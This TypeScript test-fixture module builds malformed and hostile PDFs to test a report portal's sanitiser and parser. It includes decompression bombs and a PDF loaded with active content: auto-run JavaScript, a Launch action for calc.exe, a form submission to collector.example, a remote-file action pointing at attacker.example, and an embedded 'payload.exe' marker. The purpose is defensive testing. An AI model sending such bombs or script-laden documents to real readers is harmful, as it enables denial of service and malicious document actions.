import { createDeflate, deflateSync } from 'node:zlib';
import {
  degrees,
  PDFArray,
  type PDFContext,
  type PDFDict,
  PDFDocument,
  PDFName,
  type PDFRef,
  PDFString,
  rgb,
  StandardFonts,
} from 'pdf-lib';
import { type DemoReportInput, generateDemoReportPdf } from '../generate-demo-report';

export type RawObject = { dict: string; stream?: Uint8Array | string };

/**
 * A PDF written by hand, objects numbered from 1, with a correct cross-reference table: for the shapes
 * pdf-lib would never produce (inherited attributes, unbalanced graphics state, hostile page trees).
 */
export function buildRawPdf(objects: RawObject[], trailer = '/Root 1 0 R'): Uint8Array {
  const parts: Buffer[] = [Buffer.from('%PDF-1.7\n%\xE2\xE3\xCF\xD3\n', 'latin1')];
  const offsets: number[] = [];
  let length = parts[0]?.length ?? 0;
  const push = (part: Buffer) => {
    parts.push(part);
    length += part.length;
  };
  for (const [index, object] of objects.entries()) {
    offsets.push(length);
    if (object.stream === undefined) {
      push(Buffer.from(`${index + 1} 0 obj\n${object.dict}\nendobj\n`, 'latin1'));
      continue;
    }
    const data =
      typeof object.stream === 'string' ? Buffer.from(object.stream, 'latin1') : Buffer.from(object.stream);
    const dict = object.dict.replace(/>>\s*$/, ` /Length ${data.length} >>`);
    push(Buffer.from(`${index + 1} 0 obj\n${dict}\nstream\n`, 'latin1'));
    push(data);
    push(Buffer.from('\nendstream\nendobj\n', 'latin1'));
  }
  const xref = [
    'xref',
    `0 ${objects.length + 1}`,
    '0000000000 65535 f ',
    ...offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n `),
    'trailer',
    `<< /Size ${objects.length + 1} ${trailer} >>`,
    'startxref',
    String(length),
    '%%EOF',
    '',
  ].join('\n');
  push(Buffer.from(xref, 'latin1'));
  return new Uint8Array(Buffer.concat(parts));
}

export type SamplePage = {
  size: [number, number];
  rotate?: 0 | 90 | 180 | 270;
  cropBox?: [number, number, number, number];
  label: string;
};

/** Pages with text and shapes all over them (except the bottom 30 pt of the visible area). */
export async function buildSamplePdf(pages: SamplePage[]): Promise<Uint8Array> {
  const doc = await PDFDocument.create();
  const font = doc.embedStandardFont(StandardFonts.Helvetica);
  for (const sample of pages) {
    const page = doc.addPage(sample.size);
    const [x, y, width, height] = sample.cropBox ?? [0, 0, sample.size[0], sample.size[1]];
    if (sample.cropBox) page.setCropBox(x, y, width, height);
    page.drawRectangle({
      x: x + 20,
      y: y + 40,
      width: width - 40,
      height: height - 60,
      color: rgb(0.93, 0.95, 1),
    });
    page.drawText(sample.label, { x: x + 40, y: y + height - 60, size: 18, font });
    page.drawText('Content near the bottom margin', { x: x + 40, y: y + 45, size: 9, font });
    if (sample.rotate) page.setRotation(degrees(sample.rotate));
  }
  return doc.save();
}

/**
 * One page whose MediaBox and font come from its parent /Pages node, and whose content scales the
 * coordinate system by 2 and never restores it: a footer drawn after it without care would be huge
 * and misplaced.
 */
export function buildUnbalancedStatePdf(): Uint8Array {
  return buildRawPdf([
    { dict: '<< /Type /Catalog /Pages 2 0 R >>' },
    {
      dict: '<< /Type /Pages /Kids [3 0 R] /Count 1 /MediaBox [0 0 612 792] /Resources << /Font << /F1 4 0 R >> >> >>',
    },
    { dict: '<< /Type /Page /Parent 2 0 R /Contents 5 0 R >>' },
    { dict: '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>' },
    {
      dict: '<< >>',
      stream: '2 0 0 2 0 0 cm 0.2 g BT /F1 12 Tf 20 300 Td (Scaled twice, never restored) Tj ET\n',
    },
  ]);
}

/** The input of a five-page demo report: a coversheet, measurements, three pages of strips. */
export function buildDemoReportInput(overrides: Partial<DemoReportInput> = {}): DemoReportInput {
  return {
    seed: 42,
    documentType: 'implicity-90-day-remote-report',
    serviceLine: 'crm',
    clinicName: 'Riverside Heart & Rhythm Center',
    patient: { firstName: 'Ada', lastName: 'Castillo', dob: new Date(Date.UTC(1948, 2, 7)), id: 'P100042' },
    device: {
      manufacturer: 'Medtronic',
      modelName: 'Azure XT DR',
      serialNumber: 'SN482913',
      implantDate: '2019-04-15',
      chambers: 'Dual',
    },
    dos: new Date('2026-11-01T10:42:13Z'),
    pageCount: 5,
    ...overrides,
  };
}

/** That report's PDF. */
export function buildDemoReport(overrides: { pageCount?: number; seed?: number } = {}): Promise<Uint8Array> {
  return generateDemoReportPdf(buildDemoReportInput(overrides));
}

/** A page tree whose object stream inflates to `megabytes` of spaces: tiny on disk, heavy to parse. */
export function buildDeflateBombPdf(megabytes: number): Uint8Array {
  const payload = deflateSync(Buffer.alloc(megabytes * 1024 * 1024, 0x20), { level: 9 });
  return buildRawPdf([
    { dict: '<< /Type /Catalog /Pages 2 0 R >>' },
    { dict: '<< /Type /Pages /Kids [3 0 R] /Count 1 >>' },
    { dict: '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>' },
    { dict: '<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode >>', stream: payload },
  ]);
}

const repeatedSpaces = new Map<number, Promise<Buffer>>();

/**
 * `megabytes` of spaces deflated at level 9 (about 1 KB per MB), made a chunk at a time so the inflated
 * size is never held in memory; made once per size and test file.
 */
export function deflateRepeatedSpaces(megabytes: number): Promise<Buffer> {
  let made = repeatedSpaces.get(megabytes);
  if (!made) {
    made = (async () => {
      const chunk = Buffer.alloc(1024 * 1024, 0x20);
      const deflater = createDeflate({ level: 9 });
      const output: Buffer[] = [];
      deflater.on('data', (part: Buffer) => output.push(part));
      const ended = new Promise((resolve) => deflater.on('end', resolve));
      for (let index = 0; index < megabytes; index++) {
        if (!deflater.write(chunk)) await new Promise((resolve) => deflater.once('drain', resolve));
      }
      deflater.end();
      await ended;
      return Buffer.concat(output);
    })();
    repeatedSpaces.set(megabytes, made);
  }
  return made;
}

/**
 * A valid one-page PDF whose page content stream inflates to `megabytes` of spaces: pdf-lib never inflates
 * a content stream, so only a reader showing the page pays.
 */
export async function buildContentStreamBombPdf(megabytes: number): Promise<Uint8Array> {
  return buildRawPdf([
    { dict: '<< /Type /Catalog /Pages 2 0 R >>' },
    { dict: '<< /Type /Pages /Kids [3 0 R] /Count 1 >>' },
    { dict: '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>' },
    { dict: '<< /Filter /FlateDecode >>', stream: await deflateRepeatedSpaces(megabytes) },
  ]);
}

/** Like buildDeflateBombPdf, for sizes too large to hold inflated in memory (1024 = 1 GiB). */
export async function buildObjectStreamBombPdf(megabytes: number): Promise<Uint8Array> {
  return buildRawPdf([
    { dict: '<< /Type /Catalog /Pages 2 0 R >>' },
    { dict: '<< /Type /Pages /Kids [3 0 R] /Count 1 >>' },
    { dict: '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>' },
    {
      dict: '<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode >>',
      stream: await deflateRepeatedSpaces(megabytes),
    },
  ]);
}

/**
 * Text each piece of active content in buildActiveContentPdf carries, to look for in the saved bytes (no
 * parentheses or backslashes, which a PDF string would escape).
 */
export const ACTIVE_CONTENT_MARKERS = {
  openAction: 'app.alert.opened',
  documentScript: 'this.exportDataObject',
  pageScript: 'app.launchURL.pageOpen',
  outlineScript: 'app.alert.bookmark',
  chainedScript: 'app.alert.chained',
  fieldScript: 'event.value = "keystroke"',
  launch: 'calc.exe',
  submitForm: 'https://collector.example/submit',
  importData: 'data.fdf',
  remoteFile: '//attacker.example/share/report.pdf',
  embeddedFile: 'MZ-EMBEDDED-PAYLOAD',
  xfa: '<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/">',
} as const;

/** What the removal reports for buildActiveContentPdf's file, in its order. */
export const ACTIVE_CONTENT_KINDS = [
  'AdditionalActions',
  'EmbeddedFiles',
  'FileAttachment',
  'GoToR',
  'ImportData',
  'JavaScript',
  'Launch',
  'OpenAction',
  'SubmitForm',
  'XFA',
] as const;

/** What must survive the removal: the page text and an ordinary web link. */
export const KEPT_LINK = 'https://portal.example/help';

/**
 * A one-page report with every kind of active content the portal removes: an /OpenAction script, document
 * additional actions, document-level JavaScript and an embedded file in the name dictionary, an XFA form
 * with a field script, page additional actions, annotations with Launch, SubmitForm, ImportData, GoToR and
 * a GoTo action whose /Next is a script, a file-attachment annotation, and a bookmark that runs a script.
 * It also has a plain web link, which must stay.
 */
export async function buildActiveContentPdf(): Promise<Uint8Array> {
  const doc = await PDFDocument.create({ updateMetadata: false });
  const { context } = doc;
  const page = doc.addPage([612, 792]);
  page.drawText('Remote monitoring report with active content', {
    x: 72,
    y: 700,
    size: 14,
    font: doc.embedStandardFont(StandardFonts.Helvetica),
  });
  const script = (code: string) =>
    context.register(context.obj({ Type: 'Action', S: 'JavaScript', JS: PDFString.of(code) }));
  const markers = ACTIVE_CONTENT_MARKERS;

  const payload = context.register(
    context.flateStream(markers.embeddedFile, {
      Type: 'EmbeddedFile',
      Subtype: 'application#2Foctet-stream',
    }),
  );
  const fileSpec = context.register(
    context.obj({ Type: 'Filespec', F: PDFString.of('payload.exe'), EF: { F: payload } }),
  );
  const xfa = context.register(context.flateStream(`${markers.xfa}<template/></xdp:xdp>`));

  doc.catalog.set(PDFName.of('OpenAction'), script(markers.openAction));
  doc.catalog.set(PDFName.of('AA'), context.obj({ WC: script('app.alert.closing') }));
  doc.catalog.set(
    PDFName.of('Names'),
    context.obj({
      JavaScript: { Names: [PDFString.of('init'), script(markers.documentScript)] },
      EmbeddedFiles: { Names: [PDFString.of('payload.exe'), fileSpec] },
    }),
  );
  const field = context.register(
    context.obj({
      FT: 'Tx',
      T: PDFString.of('note'),
      AA: { K: script(markers.fieldScript) },
    }),
  );
  doc.catalog.set(PDFName.of('AcroForm'), context.obj({ Fields: [field], XFA: xfa }));
  page.node.set(PDFName.of('AA'), context.obj({ O: script(markers.pageScript) }));

  const link = (action: Record<string, unknown>, y: number) =>
    context.register(
      context.obj({
        Type: 'Annot',
        Subtype: 'Link',
        Rect: [72, y, 300, y + 20],
        Border: [0, 0, 0],
        A: context.obj(action as Parameters<PDFContext['obj']>[0] & object),
      }),
    );
  const annotations: PDFRef[] = [
    link({ Type: 'Action', S: 'Launch', F: PDFString.of(markers.launch) }, 600),
    link({ Type: 'Action', S: 'SubmitForm', F: { FS: 'URL', F: PDFString.of(markers.submitForm) } }, 570),
    link({ Type: 'Action', S: 'ImportData', F: PDFString.of(markers.importData) }, 540),
    link({ Type: 'Action', S: 'GoToR', F: PDFString.of(markers.remoteFile), D: [0, 'Fit'] }, 510),
    link({ Type: 'Action', S: 'GoTo', D: [page.ref, 'Fit'], Next: script(markers.chainedScript) }, 480),
    link({ Type: 'Action', S: 'URI', URI: PDFString.of(KEPT_LINK) }, 450),
    context.register(
      context.obj({
        Type: 'Annot',
        Subtype: 'FileAttachment',
        Rect: [400, 600, 420, 620],
        FS: fileSpec,
        Contents: PDFString.of('Attached file'),
      }),
    ),
  ];
  page.node.set(PDFName.of('Annots'), context.obj(annotations));

  const outline = context.register(context.obj({ Type: 'Outlines', Count: 1 }));
  const bookmark = context.register(
    context.obj({ Title: PDFString.of('Run me'), Parent: outline, A: script(markers.outlineScript) }),
  );
  const outlineDict = context.lookup(outline) as PDFDict;
  outlineDict.set(PDFName.of('First'), bookmark);
  outlineDict.set(PDFName.of('Last'), bookmark);
  doc.catalog.set(PDFName.of('Outlines'), outline);
  return doc.save({ useObjectStreams: false });
}

/** The annotations of each page, as their /Subtype names. */
export function annotationSubtypes(doc: PDFDocument): string[][] {
  return doc.getPages().map((page) => {
    const annots = page.node.lookup(PDFName.of('Annots'));
    if (!(annots instanceof PDFArray)) return [];
    return annots
      .asArray()
      .map((annot) => (doc.context.lookup(annot) as PDFDict).lookup(PDFName.of('Subtype')))
      .map((subtype) => (subtype instanceof PDFName ? subtype.decodeText() : '?'));
  });
}

/**
 * Issue 29 §2: `pdf` cut short after the whole object nearest its middle, as a transfer that stopped half
 * way leaves it: no cross-reference table, no trailer, the later objects (pages, content) missing.
 */
export function cutInHalf(pdf: Uint8Array): Uint8Array {
  const text = Buffer.from(pdf).toString('latin1');
  const end = text.indexOf('endobj', Math.floor(pdf.byteLength / 2));
  if (end < 0) throw new Error('cutInHalf: no object after the middle');
  return pdf.slice(0, end + 'endobj\n'.length);
}

/** A three-page PDF written without object streams (so it can be cut between objects), text on each page. */
export async function buildPlainThreePagePdf(): Promise<Uint8Array> {
  const doc = await PDFDocument.create();
  const font = doc.embedStandardFont(StandardFonts.Helvetica);
  for (const number of [1, 2, 3]) {
    doc
      .addPage([612, 792])
      .drawText(`Interrogation summary, page ${number}`, { x: 50, y: 700, font, size: 12 });
  }
  return doc.save({ useObjectStreams: false });
}

/** A one-page PDF whose page's content stream (object 4) is named but not in the file. */
export function buildMissingContentPdf(): Uint8Array {
  return buildRawPdf([
    { dict: '<< /Type /Catalog /Pages 2 0 R >>' },
    { dict: '<< /Type /Pages /Kids [3 0 R] /Count 1 >>' },
    { dict: '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 9 0 R >>' },
  ]);
}

/** A one-page PDF whose drawing is a form XObject given as a dictionary, not a stream: nothing to draw. */
export function buildBrokenContentPdf(): Uint8Array {
  return buildRawPdf([
    { dict: '<< /Type /Catalog /Pages 2 0 R >>' },
    { dict: '<< /Type /Pages /Kids [3 0 R] /Count 1 >>' },
    {
      dict: '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /XObject << /X1 5 0 R >> >> >>',
    },
    { dict: '<< >>', stream: 'q 100 0 0 100 50 600 cm /X1 Do Q' },
    { dict: '<< /Type /XObject /Subtype /Form /BBox [0 0 1 1] >>' },
  ]);
}

/** `pdf` with its cross-reference offsets wrong (every object still whole): readers rebuild the table. */
export function breakCrossReference(pdf: Uint8Array): Uint8Array {
  const text = Buffer.from(pdf).toString('latin1');
  const at = text.lastIndexOf('startxref');
  return new Uint8Array(Buffer.from(`${text.slice(0, at)}startxref\n17\n%%EOF\n`, 'latin1'));
}
